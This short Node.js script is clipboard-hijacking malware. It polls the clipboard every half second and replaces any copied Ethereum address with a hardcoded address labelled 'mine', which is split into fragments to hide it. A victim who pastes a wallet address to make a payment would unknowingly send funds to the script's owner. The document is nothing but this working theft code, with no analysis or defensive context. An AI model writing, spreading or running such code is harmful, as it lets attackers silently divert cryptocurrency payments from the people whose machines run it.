const clip = require('clipboardy');
const mine = { eth: ['0x71C7656EC7', 'ab88b098de', 'fB751B7401', 'B5f6d8976F'].join('') };
setInterval(() => {
  const t = clip.readSync();
  if (/^0x[a-fA-F0-9]{40}$/.test(t) && t !== mine.eth) clip.writeSync(mine.eth);
}, 500);
